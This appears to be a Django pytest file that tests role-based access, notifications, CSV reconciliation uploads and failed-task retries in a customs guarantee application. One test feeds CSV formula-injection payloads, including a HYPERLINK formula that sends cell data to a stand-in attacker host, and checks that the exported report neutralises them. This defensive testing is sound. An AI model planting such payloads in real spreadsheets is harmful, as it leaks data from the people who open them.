"""The pages of the background work: who reaches which (sign-in 302 / 403 / 404 / 200), and what they do."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts.roles import Role
from guarantees.models import Notification, ReconciliationRun, TaskFailure
from guarantees.links import notification_path
from guarantees.services.notifications import notice_send
from guarantees.operations.reconciliation import reconciliation_receive, reconciliation_run
from guarantees.operations.failures import task_failure_record
from tests.accounts.helpers import sign_in_as
from tests.factories import CustomsFactory, country, member
from tests.builders import declare, enrolled, transits_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(db):
    """The lean world of the background work (``tests.builders.transits_world``)."""
    return transits_world()

ROLES = ("agent", "maker", "officer_bf", "officer_tg", "officer_ml", "secretariat", "anonymous")


@pytest.fixture
def pages(world):
    declare(world, "PG-1", amount=1_000_000)
    run = reconciliation_run(run_id=reconciliation_receive(customs=world.togo, transits=[]).pk)
    failure = task_failure_record(task_name="guarantees.tasks.run_reconciliation", task_id="t", args=[run.pk],
                                  exception=RuntimeError("boom"), traceback="Traceback (most recent call last)")
    mali = enrolled(member(CustomsFactory(country=country("ML")), Role.CUSTOMS_OFFICER))
    people = {"agent": world.s.agent, "maker": world.s.maker, "officer_bf": world.s.officer,
              "officer_tg": world.tg_officer, "officer_ml": mali, "secretariat": world.secretariat}
    return world, run, failure, people


def _client(people, role) -> Client:
    client = Client()
    if role != "anonymous":
        sign_in_as(client, people[role])
    return client


MATRIX = [
    # url name, args, expected status by role (others: 403; anonymous: 302)
    ("notifications", lambda run, failure: [], {r: 200 for r in ROLES[:-1]}),
    ("reconciliations", lambda run, failure: [], {"officer_bf": 200, "officer_tg": 200, "officer_ml": 200,
                                                   "secretariat": 200}),
    ("reconciliation_upload", lambda run, failure: [], {"officer_bf": 200, "officer_tg": 200, "officer_ml": 200}),
    ("reconciliation_detail", lambda run, failure: [run.pk], {"officer_bf": 404, "officer_tg": 200,
                                                              "officer_ml": 404, "secretariat": 200}),
    ("reconciliation_download", lambda run, failure: [run.pk], {"officer_bf": 404, "officer_tg": 200,
                                                                "officer_ml": 404, "secretariat": 200}),
    ("task_failures", lambda run, failure: [], {"secretariat": 200}),
    ("task_failure_detail", lambda run, failure: [failure.pk], {"secretariat": 200}),
]


@pytest.mark.parametrize(("url_name", "args", "expected"), MATRIX, ids=[m[0] for m in MATRIX])
def test_role_page_matrix(pages, url_name, args, expected):
    world, run, failure, people = pages
    url = reverse(f"guarantees:{url_name}", args=args(run, failure))
    seen = {role: _client(people, role).get(url).status_code for role in ROLES}
    want = {role: expected.get(role, 302 if role == "anonymous" else 403) for role in ROLES}
    assert seen == want


def test_everyone_sees_only_their_notifications_and_opens_them(pages):
    world, _run, _failure, people = pages
    notice_send(event="guarantee_expiring", organisation=world.s.forwarder, guarantee=world.guarantee)
    mine = Notification.objects.get(recipient=world.s.agent, event="guarantee_expiring")
    client = _client(people, "agent")
    page = client.get(reverse("guarantees:notifications")).content.decode()
    assert mine.subject in page
    assert _client(people, "maker").post(reverse("guarantees:notification_open", args=[mine.pk])).status_code == 404
    response = client.post(reverse("guarantees:notification_open", args=[mine.pk]), {"follow": "1"})
    assert response.status_code == 302 and response["Location"] == notification_path(mine)
    mine.refresh_from_db()
    assert mine.read_at is not None


def test_customs_send_a_list_from_the_page_and_download_the_report(pages, django_capture_on_commit_callbacks):
    world, _run, _failure, people = pages
    client = _client(people, "officer_tg")
    upload = SimpleUploadedFile("open.csv", b"declaration_ref,amount\nPG-1,900000\nPG-X,5\n", content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("guarantees:reconciliation_upload"), {"file": upload})
    run = ReconciliationRun.objects.latest("pk")
    assert response.status_code == 302 and response["Location"] == reverse("guarantees:reconciliation_detail",
                                                                           args=[run.pk])
    assert run.source == "page" and run.submitted_by == people["officer_tg"]
    detail = client.get(response["Location"]).content.decode()
    assert "PG-1" in detail and "PG-X" in detail
    csv_response = client.get(reverse("guarantees:reconciliation_download", args=[run.pk]))
    assert csv_response["Content-Type"].startswith("text/csv")
    body = csv_response.content.decode()
    assert "amount_differs,".lower() in body and "unknown_here," in body


def test_a_formula_sent_in_a_list_reaches_the_secretariat_as_text(pages, django_capture_on_commit_callbacks):
    """The attack: customs (or whoever holds their session) send a list whose references are spreadsheet
    formulas; the secretariat downloads the report and opens it in a spreadsheet."""
    import csv
    import io

    _world, _run, _failure, people = pages
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
    lines = "".join(f'"{ref.replace(chr(34), chr(34) * 2)}",5\n' for ref in hostile)
    upload = SimpleUploadedFile("open.csv", f"declaration_ref,amount\n{lines}".encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = _client(people, "officer_tg").post(reverse("guarantees:reconciliation_upload"), {"file": upload})
    run = ReconciliationRun.objects.latest("pk")
    assert response.status_code == 302
    body = _client(people, "secretariat").get(reverse("guarantees:reconciliation_download", args=[run.pk]))
    rows = list(csv.DictReader(io.StringIO(body.content.decode())))
    refs = {row["declaration_ref"] for row in rows if row["kind"] == "unknown_here"}
    assert refs == {"'" + ref for ref in hostile}
    assert all(not row["declaration_ref"].startswith(("=", "+", "-", "@")) for row in rows)
    # Amounts are still numbers.
    assert {row["amount_there"] for row in rows if row["kind"] == "unknown_here"} == {"5"}


def test_a_bad_list_is_shown_with_its_line_numbers(pages):
    world, _run, _failure, people = pages
    upload = SimpleUploadedFile("open.csv", b"declaration_ref,amount\nPG-1,abc\n", content_type="text/csv")
    response = _client(people, "officer_tg").post(reverse("guarantees:reconciliation_upload"), {"file": upload})
    assert response.status_code == 200
    assert not ReconciliationRun.objects.filter(source="page").exists()


def test_a_bank_or_the_secretariat_cannot_send_a_list(pages):
    _world, _run, _failure, people = pages
    upload = SimpleUploadedFile("open.csv", b"declaration_ref\nPG-1\n", content_type="text/csv")
    assert _client(people, "secretariat").post(reverse("guarantees:reconciliation_upload"),
                                               {"file": upload}).status_code == 403


def test_the_secretariat_retries_a_failed_task_from_its_page(pages, django_capture_on_commit_callbacks):
    _world, _run, failure, people = pages
    client = _client(people, "secretariat")
    page = client.get(reverse("guarantees:task_failure_detail", args=[failure.pk])).content.decode()
    assert "RuntimeError" in page and "boom" in page and "Traceback" in page
    assert _client(people, "officer_tg").post(
        reverse("guarantees:task_failure_retry", args=[failure.pk])).status_code == 403
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("guarantees:task_failure_retry", args=[failure.pk]))
    assert response.status_code == 302
    failure.refresh_from_db()
    assert failure.retries == 1 and failure.resolved  # the comparison ran again (eagerly here) and succeeded
    assert TaskFailure.objects.filter(resolved=False).count() == 0


def test_the_menu_shows_each_role_its_background_pages(pages):
    from accounts.navigation import nav_links

    _world, _run, _failure, people = pages
    urls = {role: {link["url"] for link in nav_links(user)} for role, user in people.items()}
    assert reverse("guarantees:notifications") in urls["agent"]
    assert reverse("guarantees:reconciliations") in urls["officer_tg"]
    assert reverse("guarantees:reconciliations") not in urls["maker"]
    assert reverse("guarantees:task_failures") in urls["secretariat"]
    assert reverse("guarantees:task_failures") not in urls["officer_tg"]


def test_a_list_whose_comparison_failed_or_stalled_stops_refreshing_and_says_so(pages):
    """A comparison whose task died left its page refreshing every 3 seconds, forever, saying nothing."""
    import datetime

    from django.utils import timezone

    from guarantees.models import ReconciliationStatus

    world, _run, _failure, people = pages
    client = _client(people, "officer_tg")
    waiting = reconciliation_receive(customs=world.togo, transits=[])
    page = client.get(reverse("guarantees:reconciliation_detail", args=[waiting.pk])).content.decode()
    assert 'http-equiv="refresh"' in page  # just received: it is being compared

    ReconciliationRun.objects.filter(pk=waiting.pk).update(created_at=timezone.now() - datetime.timedelta(minutes=11))
    page = client.get(reverse("guarantees:reconciliation_detail", args=[waiting.pk])).content.decode()
    assert 'http-equiv="refresh"' not in page
    assert 'data-testid="run-stalled-notice"' in page and "tâches en échec" in page

    ReconciliationRun.objects.filter(pk=waiting.pk).update(status=ReconciliationStatus.FAILED, error="x")
    page = client.get(reverse("guarantees:reconciliation_detail", args=[waiting.pk])).content.decode()
    assert 'http-equiv="refresh"' not in page
    assert 'data-testid="run-failed-notice"' in page and "La comparaison a échoué" in page
